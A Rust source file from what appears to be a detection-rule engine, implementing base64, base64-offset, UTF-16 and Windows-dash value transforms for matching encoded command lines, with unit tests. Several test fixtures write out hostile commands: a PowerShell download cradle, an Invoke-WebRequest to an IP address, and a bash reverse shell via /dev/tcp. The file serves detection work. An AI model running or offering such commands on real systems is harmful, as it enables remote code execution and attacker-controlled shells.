//! Value transforms applied before matching: `base64`, `base64offset` and
//! `windash`. Each turns one rule value into one or more literal values
//! (combined with OR), which then go through the usual string matching
//! (`base64offset` is meant to be used with `contains`). Before base64 the
//! value may be re-encoded as UTF-16 (`utf16le`/`wide`, `utf16be`,
//! `utf16`), as PowerShell's `-EncodedCommand` is.

use super::modifier::Utf16;

/// Standard base64 with padding.
pub(crate) fn base64(input: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let sym = |i: u32| char::from(ALPHABET[(i & 63) as usize]);
    let mut out = String::with_capacity(input.len().div_ceil(3) * 4);
    for chunk in input.chunks(3) {
        let b = |i: usize| u32::from(chunk.get(i).copied().unwrap_or(0));
        let n = (b(0) << 16) | (b(1) << 8) | b(2);
        out.push(sym(n >> 18));
        out.push(sym(n >> 12));
        out.push(if chunk.len() > 1 { sym(n >> 6) } else { '=' });
        out.push(if chunk.len() > 2 { sym(n) } else { '=' });
    }
    out
}

/// `text` in the encoding `utf16` names (UTF-8 bytes for `None`).
pub(crate) fn encode(text: &str, utf16: Utf16) -> Vec<u8> {
    let units = text.encode_utf16();
    match utf16 {
        Utf16::None => text.as_bytes().to_vec(),
        Utf16::Le => units.flat_map(u16::to_le_bytes).collect(),
        Utf16::Be => units.flat_map(u16::to_be_bytes).collect(),
        Utf16::Bom => [0xFF, 0xFE]
            .into_iter()
            .chain(units.flat_map(u16::to_le_bytes))
            .collect(),
    }
}

/// The three encodings of `value` at byte offsets 0, 1 and 2 of a longer
/// base64 text, stripped of the characters that depend on the neighbours.
pub(crate) fn base64_offsets(value: &[u8]) -> Vec<String> {
    const START: [usize; 3] = [0, 2, 3];
    let len = value.len();
    (0..3)
        .filter_map(|i| {
            let mut bytes = vec![b' '; i];
            bytes.extend_from_slice(value);
            let enc = base64(&bytes);
            let end = match (len + i) % 3 {
                0 => enc.len(),
                1 => enc.len().saturating_sub(3),
                _ => enc.len().saturating_sub(2),
            };
            enc.get(START[i]..end)
                .filter(|s| !s.is_empty())
                .map(str::to_string)
        })
        .collect()
}

/// Windows accepts `-`, `/` and the Unicode dashes for command-line
/// switches: every variant of `value` with its switch dashes (a `-` or
/// `/` at the start or after a space) replaced by each of them.
pub(crate) fn windash(value: &str) -> Vec<String> {
    const DASHES: [char; 5] = ['-', '/', '\u{2013}', '\u{2014}', '\u{2015}'];
    let is_switch = |prev: Option<char>, c: char| {
        (c == '-' || c == '/') && prev.is_none_or(char::is_whitespace)
    };
    let mut out: Vec<String> = Vec::new();
    for d in DASHES {
        let mut s = String::with_capacity(value.len() + 4);
        let mut prev = None;
        for c in value.chars() {
            s.push(if is_switch(prev, c) { d } else { c });
            prev = Some(c);
        }
        if !out.contains(&s) {
            out.push(s);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_vectors() {
        for (i, o) in [
            ("", ""),
            ("f", "Zg=="),
            ("fo", "Zm8="),
            ("foo", "Zm9v"),
            ("foob", "Zm9vYg=="),
            ("fooba", "Zm9vYmE="),
            ("foobar", "Zm9vYmFy"),
        ] {
            assert_eq!(base64(i.as_bytes()), o);
        }
    }

    #[test]
    fn utf16_encodings() {
        assert_eq!(encode("ab", Utf16::None), b"ab");
        assert_eq!(encode("ab", Utf16::Le), [b'a', 0, b'b', 0]);
        assert_eq!(encode("ab", Utf16::Be), [0, b'a', 0, b'b']);
        assert_eq!(encode("ab", Utf16::Bom), [0xFF, 0xFE, b'a', 0, b'b', 0]);
        assert_eq!(encode("é", Utf16::Le), [0xE9, 0]);
        // `powershell -enc` of "ping": base64 of UTF-16LE.
        assert_eq!(base64(&encode("ping", Utf16::Le)), "cABpAG4AZwA=");
    }

    #[test]
    fn wide_offsets_are_found_inside_an_encoded_command() {
        let needle = encode("Invoke-WebRequest", Utf16::Le);
        let variants = base64_offsets(&needle);
        for prefix in [
            "",
            "x",
            "$a=",
            "iex (",
            "IEX(New-Object Net.WebClient).DownloadString('http://x/a');",
        ] {
            let enc = base64(&encode(
                &format!("{prefix}Invoke-WebRequest -Uri http://203.0.113.5/p"),
                Utf16::Le,
            ));
            assert!(
                variants.iter().any(|v| enc.contains(v.as_str())),
                "{prefix:?}: {enc} vs {variants:?}"
            );
        }
    }

    #[test]
    fn offsets_are_found_inside_longer_encodings() {
        let needle = "/bin/bash -i";
        let variants = base64_offsets(needle.as_bytes());
        assert_eq!(variants.len(), 3);
        for prefix in ["", "x", "xy", "echo ", "curl a|"] {
            for suffix in ["", "!", " >& /dev/tcp/1.2.3.4/9"] {
                let enc = base64(format!("{prefix}{needle}{suffix}").as_bytes());
                assert!(
                    variants.iter().any(|v| enc.contains(v.as_str())),
                    "{prefix:?}+{suffix:?}: {enc} vs {variants:?}"
                );
            }
        }
    }

    #[test]
    fn windash_variants() {
        let v = windash("-enc -nop a-b");
        assert_eq!(v.len(), 5);
        assert!(v.contains(&"/enc /nop a-b".to_string()));
        assert!(v.contains(&"\u{2013}enc \u{2013}nop a-b".to_string()));
        assert_eq!(windash("plain"), vec!["plain".to_string()]);
    }
}
